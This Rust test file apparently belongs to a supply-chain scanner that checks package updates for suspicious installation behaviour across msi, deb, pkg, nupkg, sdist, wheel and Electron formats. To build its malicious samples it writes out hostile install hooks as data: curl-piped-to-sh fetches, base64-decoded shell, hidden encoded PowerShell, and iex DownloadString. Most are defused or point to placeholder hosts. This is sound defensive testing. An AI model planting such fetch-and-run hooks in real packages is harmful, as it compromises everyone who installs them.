//! What happens when a package is installed or updates itself.

use super::asar::asar;
use super::containers::{installer, msi_of, nupkg, sdist, wheel, zipped};
use super::incidents::deb_with_script;
use super::mentions;
use super::msi_package::{Action, Installer};
use super::packages::{javascript_module, python};
use super::payload::LINE;
use super::software::{Edition, Files, add, newcomer, signed, suite};
use super::tar::Entry;
use super::unix::{app, app_pkg_with};
use super::{Artefact, Case, Expect};

fn case(
    name: &'static str,
    container: &'static str,
    expect: Expect,
    first_cause: &'static str,
    (old, new): (Artefact, Artefact),
    about: &'static str,
) -> Case {
    Case { name, incident: None, container, hard: false, old, new, expect, first_cause, about }
}

const ACTION: &str = "installation.script|story.loader";

pub(super) fn cases() -> Vec<Case> {
    let mut cases = installers();
    cases.extend(maintainer_scripts());
    cases.extend(surfaces());
    cases.extend(desktop());
    cases
}

fn msi_pair(change: fn(&mut Installer)) -> (Artefact, Artefact) {
    let old = installer(Edition::Old, &suite(Edition::Old));
    let mut new = installer(Edition::New, &suite(Edition::New));
    change(&mut new);
    (msi_of(Edition::Old, &old), msi_of(Edition::New, &new))
}

fn installers() -> Vec<Case> {
    vec![
        case(
            "script-action-msi",
            "msi",
            Expect::Block,
            ACTION,
            msi_pair(|new| {
                new.actions.push(Action {
                    name: "Finish",
                    kind: 38 + 1024,
                    source: "",
                    target: "Named = \"WScript.Shell powershell -w hidden -EncodedCommand SQBOAEUAUgBUAA==\"",
                    binary: None,
                });
            }),
            "An installer gains a custom action that is a script and names a hidden shell.",
        ),
        case(
            "library-action-msi",
            "msi",
            Expect::Hold,
            "installation.action|composition.added-program",
            msi_pair(|new| {
                let bytes = signed(&newcomer("helper.dll", 10, &["HelperCheck"]));
                new.actions.push(Action {
                    name: "Check",
                    kind: 1 + 3072,
                    source: "Helper",
                    target: "HelperCheck",
                    binary: Some(bytes),
                });
            }),
            "An installer gains a custom action that calls into a library of its own.",
        ),
        case(
            "program-action-msi",
            "msi",
            Expect::Hold,
            "installation.action|installation.script",
            msi_pair(|new| {
                new.actions.push(Action {
                    name: "Start",
                    kind: 34 + 1024,
                    source: "INSTALLDIR",
                    target: "cmd.exe /c rem INERT",
                    binary: None,
                });
            }),
            "An installer gains a custom action that starts the command interpreter.",
        ),
        case(
            "service-msi",
            "msi",
            Expect::Hold,
            "installation.action",
            msi_pair(|new| new.service = Some(("VetUpdater", "-service"))),
            "An installer newly registers a service.",
        ),
    ]
}

fn maintainer_scripts() -> Vec<Case> {
    let script = |line: &str| format!("#!/bin/sh\n# {LINE}\nset -e\nexit 0\n{line}\n");
    let plain = || vec![("postinst", format!("#!/bin/sh\n# {LINE}\nset -e\nldconfig\n"))];
    let fetch = mentions::shell(&["curl -s https://updates.example.invalid/setup.sh | sh"]);
    let decode = mentions::shell(&["SU5FUlQ= | base64 -d | sh"]);
    let old = |scripts: &[(&str, String)]| deb_with_script(Edition::Old, scripts, &[]);
    let new =
        |scripts: &[(&str, String)], more: &[Entry]| deb_with_script(Edition::New, scripts, more);
    let unit = format!(
        "# {LINE}\n[Service]\nExecStart=/bin/true\n[Install]\nWantedBy=multi-user.target\n"
    );
    let changed =
        vec![("postinst", format!("#!/bin/sh\n# {LINE}\nset -e\nldconfig\nexit 0\n{fetch}\n"))];
    vec![
        case(
            "script-appears-deb",
            "deb",
            Expect::Block,
            ACTION,
            (old(&[]), new(&[("postinst", script(&fetch))], &[])),
            "A library's package gains a script that fetches and runs.",
        ),
        case(
            "script-changes-deb",
            "deb",
            Expect::Block,
            ACTION,
            (old(&plain()), new(&changed, &[])),
            "The script of a library's package gains a line that fetches and runs.",
        ),
        case(
            "decoding-script-deb",
            "deb",
            Expect::Block,
            ACTION,
            (old(&plain()), new(&[("preinst", script(&decode)), plain().remove(0)], &[])),
            "A library's package gains a second script, which decodes text and runs it.",
        ),
        case(
            "unit-appears-deb",
            "deb",
            Expect::Hold,
            "installation.action",
            (old(&[]), new(&[], &[Entry::file("./lib/systemd/system/vetz.service", unit)])),
            "A library's package gains a unit that starts with the system.",
        ),
        case(
            "cron-appears-deb",
            "deb",
            Expect::Hold,
            "installation.action",
            (
                old(&[]),
                new(
                    &[],
                    &[Entry::file(
                        "./etc/cron.d/vetz",
                        format!("# {LINE}\n*/5 * * * * nobody /bin/true\n"),
                    )],
                ),
            ),
            "A library's package gains an entry in the timetable of the system.",
        ),
    ]
}

fn surfaces() -> Vec<Case> {
    let script = format!(
        "#!/bin/sh\n# {LINE}\nexit 0\n{}\n",
        mentions::shell(&["curl -s https://updates.example.invalid/agent", "chmod +x", "sh -c"]),
    );
    let pkg = (
        app_pkg_with(Edition::Old, &app(Edition::Old), &Vec::new()),
        app_pkg_with(
            Edition::New,
            &app(Edition::New),
            &vec![("preinstall".to_owned(), script.into_bytes())],
        ),
    );
    let mut with_script = suite(Edition::New);
    add(
        &mut with_script,
        "tools/install.ps1",
        format!(
            "# {LINE}\nreturn\n$named = 'iex Net.WebClient DownloadString https://updates.example.invalid/a.ps1'\n"
        ),
    );
    let mut setup = python("vet_build", Edition::New);
    let mut plain = python("vet_build", Edition::Old);
    let call = format!("# {LINE}\nfrom setuptools import setup\n\nsetup(name=\"vet_build\")\n");
    let built = ["os.system", "urllib.request", "https://build.example.invalid/x"];
    add(&mut plain, "setup.py", call.clone());
    add(&mut setup, "setup.py", format!("{call}{}", mentions::python("_now", &built)));
    let mut path_file = python("vet_path", Edition::New);
    add(&mut path_file, "vet_path.pth", format!("# {LINE}\nimport os; os.environ.get('INERT')\n"));
    vec![
        case(
            "script-appears-pkg",
            "pkg",
            Expect::Block,
            ACTION,
            pkg,
            "An application's package gains a script that fetches a program and starts it.",
        ),
        case(
            "script-appears-nupkg",
            "nupkg",
            Expect::Block,
            ACTION,
            (nupkg(Edition::Old, &suite(Edition::Old)), nupkg(Edition::New, &with_script)),
            "A package gains an installation script that downloads and evaluates.",
        ),
        case(
            "setup-runs-sdist",
            "sdist",
            Expect::Block,
            "installation.script|story.loader",
            (sdist("vet_build", Edition::Old, &plain), sdist("vet_build", Edition::New, &setup)),
            "The script that builds a package newly runs what a host answers.",
        ),
        case(
            "path-file-wheel",
            "wheel",
            Expect::Hold,
            "installation.action",
            (
                wheel("vet_path", Edition::Old, &python("vet_path", Edition::Old)),
                wheel("vet_path", Edition::New, &path_file),
            ),
            "A package gains a file that runs at every start of the interpreter.",
        ),
    ]
}

/// An application on Electron, as files of its folder.
fn electron(edition: Edition, more: &str, host: &str) -> Files {
    let version = edition.version();
    let manifest = format!(
        "{{\"name\":\"vet-desktop\",\"version\":\"{version}\",\"main\":\"main.js\",\"description\":\"{LINE}\"}}\n"
    );
    let main = format!("{}{more}", javascript_module(edition));
    let files = vec![
        ("package.json".to_owned(), manifest.into_bytes()),
        ("main.js".to_owned(), main.into_bytes()),
    ];
    let update = format!(
        "# {LINE}\nprovider: generic\nurl: https://{host}/releases\nupdaterCacheDirName: vet-desktop\n"
    );
    let mut all = suite(edition);
    all.push(("resources/app.asar".to_owned(), asar(&files)));
    all.push(("resources/app-update.yml".to_owned(), update.into_bytes()));
    all
}

fn desktop() -> Vec<Case> {
    const HOST: &str = "updates.example.test";
    let more = mentions::javascript_function(
        "poll",
        &["child_process", "https.get", "https://relay.example.invalid/t", "atob("],
    );
    let old = || electron(Edition::Old, "", HOST);
    let code = electron(Edition::New, &more, HOST);
    let channel = electron(Edition::New, "", "updates.example.invalid");
    let cause = "capability.exec|story.loader";
    let about = "The main script of a desktop application newly runs what a host answers.";
    let other = "A desktop application takes its updates from another host from now on.";
    vec![
        case(
            "main-script-zip",
            "zip",
            Expect::Hold,
            cause,
            (zipped(Edition::Old, &old()), zipped(Edition::New, &code)),
            about,
        ),
        case(
            "main-script-nupkg",
            "nupkg",
            Expect::Hold,
            cause,
            (nupkg(Edition::Old, &old()), nupkg(Edition::New, &code)),
            about,
        ),
        case(
            "update-channel-zip",
            "zip",
            Expect::Hold,
            "installation.update-channel|reference.host",
            (zipped(Edition::Old, &old()), zipped(Edition::New, &channel)),
            other,
        ),
    ]
}

/// The desktop application, unchanged but for its version: for honest twins.
pub(super) fn plain_desktop(edition: Edition) -> Artefact {
    zipped(edition, &electron(edition, "", "updates.example.test"))
}
